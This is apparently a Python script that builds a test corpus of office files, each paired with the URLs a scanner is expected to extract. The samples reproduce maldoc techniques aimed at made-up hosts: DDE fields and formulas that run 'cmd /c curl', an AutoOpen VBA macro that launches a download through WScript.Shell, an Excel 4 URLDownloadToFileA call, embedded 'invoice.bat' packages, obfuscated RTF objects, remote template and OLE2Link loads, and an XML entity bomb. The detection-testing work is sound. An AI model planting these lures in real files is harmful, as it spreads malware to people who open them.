"""Writes the office documents of the corpus: `python tests/contents/make/office.py`
(needs python-docx, openpyxl, python-pptx, xlwt, xlsxwriter, odfpy, msoffcrypto-tool and segno of PyPI)"""

import io
from collections.abc import Callable

import docx
import msoffcrypto
import openpyxl
import segno
import xlsxwriter
import xlwt
from corpus import Corpus
from msoffcrypto.format.ooxml import OOXMLFile
from odf import opendocument, table
from odf import text as odftext
from office_parts import (
    archive,
    code,
    compound,
    document,
    macros,
    mark,
    native,
    note,
    old_object,
    piece_table,
    relations,
    run,
)
from pptx import Presentation

corpus = Corpus("office")
HOSTS = iter(
    f"{word}-{kind}.com"
    for kind in ("lagerbrief", "wgetcdn", "sendpult", "postrand")
    for word in (
        "akten",
        "beleg",
        "datei",
        "folge",
        "gabel",
        "hafen",
        "insel",
        "jacke",
        "kabel",
        "lampe",
        "mappe",
        "nadel",
        "orgel",
        "pegel",
        "quelle",
        "regal",
        "sockel",
        "tafel",
        "ufer",
        "vogel",
    )
)


def url(path: str = "a/open", scheme: str = "https") -> str:
    return f"{scheme}://{next(HOSTS)}/{path}"


def saved(save: Callable[[io.BytesIO], object]) -> bytes:
    out = io.BytesIO()
    save(out)
    return out.getvalue()


def word(*paragraphs: str) -> bytes:
    made = docx.Document()
    for paragraph in paragraphs:
        made.add_paragraph(paragraph)
    return saved(made.save)


def hand(name: str, body: str, *found: str, rels: str = "", **more: str) -> None:
    members: dict[str, str | bytes] = {"word/document.xml": body}
    if rels:
        members["word/_rels/document.xml.rels"] = rels
    corpus.add(
        name,
        archive({**members, **{key.replace("__", "/").replace("_x_", "."): value for key, value in more.items()}}),
        *found,
    )


def documents() -> None:
    corpus.add(
        "plain.docx",
        word("Nothing to see here.", "Sincerely"),
    )
    a = url()
    corpus.add("text.docx", word(f"Please go to {a} today."), a)
    made = docx.Document()
    a, b, c = url(), url(), url()
    made.sections[0].header.paragraphs[0].text = f"See {a}"
    made.sections[0].footer.paragraphs[0].text = f"Or {b}"
    made.add_table(1, 2).cell(0, 1).text = c
    corpus.add("header-footer-table.docx", saved(made.save), a, b, c)
    a = url()
    hand(
        "hyperlink.docx",
        document(f'<w:hyperlink r:id="r1">{run("Open your document")}</w:hyperlink>'),
        a,
        rels=relations(("r1", "hyperlink", a)),
    )
    a = url("a?b=1&c=2")
    hand(
        "field.docx",
        document(
            mark("begin")
            + code(" HYPERLINK &quot;" + a.replace("&", "&amp;") + "&quot; \\o &quot;click&quot; ")
            + mark("separate")
            + run("here")
            + mark("end")
        ),
        a,
    )
    a = url()
    split = "".join(code(piece) for piece in (" HYP", "ERLINK ", "&quot;", a[:12], a[12:], "&quot;"))
    hand("field-in-pieces.docx", document(mark("begin") + split + mark("separate") + run("here") + mark("end")), a)
    a = url()
    hand(
        "simple-field.docx", document(f"<w:fldSimple w:instr='INCLUDEPICTURE \"{a}\" \\d'>{run('x')}</w:fldSimple>"), a
    )
    a = url("t.dotm", "http")
    corpus.add(
        "template.docx",
        archive(
            {
                "word/document.xml": document(run("Loading")),
                "word/settings.xml": "<w:settings/>",
                "word/_rels/settings.xml.rels": relations(("r1", "attachedTemplate", a)),
            }
        ),
        a,
    )
    a = url("x.html", "http")
    hand("mhtml-object.docx", document(run("Wait")), a, rels=relations(("r1", "oleObject", f"mhtml:{a}!x-usc:{a}")))
    for kind in ("frame", "image", "subDocument", "video"):
        a = url("f.bin", "http")
        hand(f"external-{kind}.docx", document(run("Wait")), a, rels=relations(("r1", kind, a)))
    host = next(HOSTS)
    hand(
        "share-template.docx",
        document(run("Wait")),
        f"domain={host}",
        rels=relations(("r1", "attachedTemplate", f"\\\\{host}@SSL\\share\\t.dotm")),
    )
    a = url()
    dde = code("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k curl " + a + "&quot;")
    hand("dde.docx", document(mark("begin") + dde + mark("end")), a)
    a = url()
    quote = mark("begin") + code("QUOTE " + " ".join(str(ord(c)) for c in f"/c curl {a}")) + mark("end")
    hand("dde-quoted.docx", document(mark("begin") + code("DDE cmd &quot;") + quote + code("&quot;") + mark("end")), a)
    a = url()
    shape = f'<w:r><w:pict><v:shape href="{a}" target="_blank"/></w:pict></w:r>'
    hand("drawing-link.docx", document(shape), a)
    a = url()
    comments = f'<w:comments xmlns:w="x"><w:comment><w:p>{run(f"see {a}")}</w:p></w:comment></w:comments>'
    corpus.add("comment.docx", archive({"word/document.xml": document(run("x")), "word/comments.xml": comments}), a)
    a = url()
    corpus.add("types-last.docx", archive({"word/document.xml": document(run(a))}, first=False), a)
    a = url()
    wide = (
        document(run(f"see {a}"))
        .replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="utf-16"?>')
        .encode("utf-16")
    )
    corpus.add("utf16.docx", archive({"word/document.xml": wide}), a)
    corpus.add(
        "properties-only.docx",
        archive(
            {
                "word/document.xml": document(run("Text")),
                "docProps/app.xml": f"<Properties><HyperlinkBase>{url()}</HyperlinkBase></Properties>",
                "customXml/item1.xml": f"<a b='{url()}'/>",
            }
        ),
    )
    laughs = '<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]>' + document(run("&b;" * 50))
    hand("entities.docx", laughs)
    a = url()
    picture = saved(lambda out: segno.make(a).save(out, kind="png", scale=5))
    corpus.add(
        "qr-picture.docx", archive({"word/document.xml": document(run("Scan")), "word/media/image1.png": picture}), a
    )
    a = url("run.vbs")
    ole = compound(
        {
            "\x01Ole10Native": (lambda data: len(data).to_bytes(4, "little") + data)(
                native("invoice.bat", f"curl {a} -o x".encode())
            )
        }
    )
    corpus.add(
        "package.docx",
        archive({"word/document.xml": document(run("Open")), "word/embeddings/oleObject1.bin": ole}),
        a,
        path="package.docx > oleObject1.bin > invoice.bat",
    )
    a = url()
    corpus.add(
        "embedded.docx",
        archive({"word/document.xml": document(run("Open")), "word/embeddings/inner.docx": word(a)}),
        a,
        path="embedded.docx > inner.docx",
    )


def project(source: str) -> bytes:
    return compound(macros({"ThisDocument": source}))


def with_macros() -> None:
    a, b, c = url("one.exe"), url("two.exe"), url("three.exe")
    source = (
        "Sub AutoOpen()\nDim shell As Object\n"
        f'url = "{a}"\n'
        f'second = "{b[:9]}" & "{b[9:20]}" & _\n "{b[20:]}"\n'
        "third = " + " & ".join(f"Chr({ord(letter)})" for letter in c) + "\n"
        'Set shell = CreateObject("WScript.Shell")\nshell.Run "cmd /c start " & url, 0\nApplication.Quit\nEnd Sub\n'
    )
    corpus.add(
        "macro.docm",
        archive({"word/document.xml": document(run("Enable content")), "word/vbaProject.bin": project(source)}),
        a,
        b,
        c,
    )
    d = url("four.exe")
    corpus.add(
        "macro.xlsm",
        archive(
            {"xl/workbook.xml": "<workbook/>", "xl/vbaProject.bin": project(f'x = "{d[:10]}"\nx = x & "{d[10:]}"\n')}
        ),
        d,
    )
    e = url("five.exe")
    streams = {
        f"Macros/{name}".replace("Macros/VBA/", "VBA/"): data
        for name, data in macros({"Module1": f'y = StrReverse("{e[::-1]}")  & ""\n'}).items()
    }
    corpus.add("macro.doc", compound({**piece_table("Enable content\r"), **streams}), e)
    corpus.add(
        "macro-harmless.docm",
        archive(
            {
                "word/document.xml": document(run("x")),
                "word/vbaProject.bin": project(
                    'Sub A()\nActiveDocument.Range.Text = "hello"\nApplication.Run "b"\nMe.Name = 1\nEnd Sub\n'
                ),
            }
        ),
    )


def sheets() -> None:
    def book(change: Callable[[openpyxl.Workbook], None]) -> bytes:
        made = openpyxl.Workbook()
        change(made)
        return saved(made.save)

    a = url()
    corpus.add("cell.xlsx", book(lambda made: made.active.append(["Invoice", a])), a)
    a = url()

    def link(made: openpyxl.Workbook) -> None:
        made.active["B2"] = "Open"
        made.active["B2"].hyperlink = a

    corpus.add("hyperlink.xlsx", book(link), a)
    a = url()
    corpus.add("formula.xlsx", book(lambda made: made.active.append([f'=HYPERLINK("{a[:12]}"&"{a[12:]}","Open")'])), a)
    b = url("q?x=1")
    corpus.add("webservice.xlsx", book(lambda made: made.active.append([f'=WEBSERVICE("{b}")'])), b)
    c = url()
    corpus.add("dde.xlsx", book(lambda made: made.active.append([f"=cmd|'/C curl {c}'!A0"])), c)
    out = io.BytesIO()
    made = xlsxwriter.Workbook(out)
    sheet = made.add_worksheet("Prices")
    d, e = url(), url()
    sheet.write_url(0, 0, d, string="Pay")
    sheet.write_comment(1, 1, f"see {e}")
    made.close()
    corpus.add("comment.xlsx", out.getvalue(), d, e)
    f = url("c?d", "http")
    corpus.add(
        "connection.xlsx",
        archive(
            {
                "xl/workbook.xml": "<workbook/>",
                "xl/connections.xml": f'<connections><connection><webPr url="{f}"/></connection></connections>',
            }
        ),
        f,
    )
    g = url("x.exe")
    external = f'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c curl {g}"/></externalLink>'
    corpus.add(
        "external-dde.xlsx",
        archive({"xl/workbook.xml": "<workbook/>", "xl/externalLinks/externalLink1.xml": external}),
        g,
    )
    h = url("m.dll")
    formulas = f'<worksheet><sheetData><row><c><f>CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"{h[:8]}"&amp;CHAR({ord(h[8])})&amp;"{h[9:]}","x")</f></c></row></sheetData></worksheet>'
    corpus.add(
        "macro-sheet.xlsm", archive({"xl/workbook.xml": "<workbook/>", "xl/macrosheets/sheet1.xml": formulas}), h
    )
    old = xlwt.Workbook()
    sheet = old.add_sheet("List")
    i, j = url(), url()
    sheet.write(0, 0, f"see {i}")
    sheet.write(1, 0, xlwt.Formula(f'HYPERLINK("{j}";"Open")'))
    corpus.add("cells.xls", saved(old.save), i, j)


def slides() -> None:
    made = Presentation()
    slide = made.slides.add_slide(made.slide_layouts[1])
    a, b, c = url(), url(), url()
    slide.shapes.title.text = f"Go to {a}"
    words = slide.placeholders[1].text_frame.paragraphs[0].add_run()
    words.text = "Open"
    words.hyperlink.address = b
    slide.notes_slide.notes_text_frame.text = c
    corpus.add("slide.pptx", saved(made.save), a, b, c)


def locked() -> None:
    def lock(content: bytes, password: str) -> bytes:
        return saved(lambda out: OOXMLFile(io.BytesIO(content)).encrypt(password, out))

    a, b = url(), url()
    corpus.add("locked.docx", lock(word(a), "Rg7-kont0"), a, password="Rg7-kont0")
    out = openpyxl.Workbook()
    out.active.append([b])
    corpus.add("velvet.xlsx", lock(saved(out.save), "VelvetSweatshop"), b, mail="See attached.")
    corpus.add("unknown-password.docx", lock(word(url()), "q9!Zf77-u"), note="contents_locked")
    assert msoffcrypto


def rich_text() -> None:
    def rich(name: str, body: str, *found: str, **told: str) -> None:
        corpus.add(
            name, ("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}" + body + "}").encode("latin-1"), *found, **told
        )

    rich("plain.rtf", "Nothing here.\\par Sincerely")
    a = url()
    rich("text.rtf", f"see {a} \\par", a)
    a = url()
    rich("hyperlink.rtf", f'{{\\field{{\\*\\fldinst{{HYPERLINK "{a}"}}}}{{\\fldrslt Open}}}}', a)
    a = url("p.png")
    rich("picture.rtf", f'{{\\field{{\\*\\fldinst INCLUDEPICTURE "{a}" \\\\d}}{{\\fldrslt x}}}}', a)
    a = url("t.dotm", "http")
    rich("template.rtf", f"{{\\*\\template {a}}}text", a)
    a = url("t.dotm", "http")
    rich(
        "template-hidden.rtf",
        "{\\*\\template "
        + "".join(f"\\'{ord(c):02x}" if i % 2 else f"\\u{ord(c)}?" for i, c in enumerate(a))
        + "}text",
        a,
    )
    a = url("go.vbs")
    data = old_object(b"Package", native("invoice.vbs", f'x = "{a}"'.encode())).hex()
    told = "invoice.vbs"
    rich(
        "package.rtf",
        f"{{\\object\\objemb{{\\*\\objclass Package}}{{\\*\\objdata {data}}}}}",
        a,
        path=f"package.rtf > {told}",
    )
    a = url("go.vbs")
    data = old_object(b"Package", native("invoice.vbs", f'x = "{a}"'.encode())).hex()
    mixed = "".join(
        f"{pair}\n" if i % 5 else f"{{\\*\\aa00 11}}{pair[0]} \\zz {pair[1]}"
        for i, pair in enumerate(data[j : j + 2] for j in range(0, len(data), 2))
    )
    rich(
        "package-obfuscated.doc",
        f"{{\\object\\objemb{{\\*\\objdata {mixed}}}}}",
        a,
        path=f"package-obfuscated.doc > {told}",
    )
    a = url("h.hta", "http")
    moniker = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
    target = (a + "\0").encode("utf-16-le")
    link = compound({"\x01Ole": bytes(32) + moniker + len(target).to_bytes(4, "little") + target})
    rich(
        "ole2link.rtf", f"{{\\object\\objautlink\\objupdate{{\\*\\objdata {old_object(b'OLE2Link', link).hex()}}}}}", a
    )


def others() -> None:
    a = url()
    corpus.add("text.doc", compound(piece_table(f"Dear client\rsee {a} now\r")), a)
    a = url()
    corpus.add("hyperlink.doc", compound(piece_table(f'x \x13 HYPERLINK "{a}" \x14Open\x15\r')), a)
    a, b = url(), url("p.png")
    corpus.add(
        "script.one",
        note(
            "invoice.bat",
            "Double click to view",
            f'@echo off\r\ncurl "{a}"\r\n'.encode(),
            f'\ufddfHYPERLINK "{b}"Open the file',
        ),
        a,
        b,
        path="script.one > invoice.bat",
    )
    corpus.add("plain.one", note("Meeting notes of today"))
    made = opendocument.OpenDocumentText()
    a, b = url(), url()
    paragraph = odftext.P(text=f"see {a} or ")
    paragraph.addElement(odftext.A(href=b, text="this"))
    made.text.addElement(paragraph)
    corpus.add("text.odt", saved(made.write), a, b)
    cells = opendocument.OpenDocumentSpreadsheet()
    a = url()
    ours = table.Table(name="List")
    row = table.TableRow()
    row.addElement(table.TableCell(formula=f'of:=HYPERLINK("{a}";"Open")'))
    ours.addElement(row)
    cells.spreadsheet.addElement(ours)
    corpus.add("formula.ods", saved(cells.write), a)
    a = url()
    module = f'<script:module xmlns:script="s" script:name="M">Shell("curl " &amp; "{a}")</script:module>'
    corpus.add(
        "macro.odt",
        archive(
            {
                "mimetype": "application/vnd.oasis.opendocument.text",
                "content.xml": "<office:document-content/>",
                "Basic/Standard/M.xml": module,
            },
            first=False,
        ),
        a,
    )


for make in (documents, with_macros, sheets, slides, locked, rich_text, others):
    make()
corpus.write()
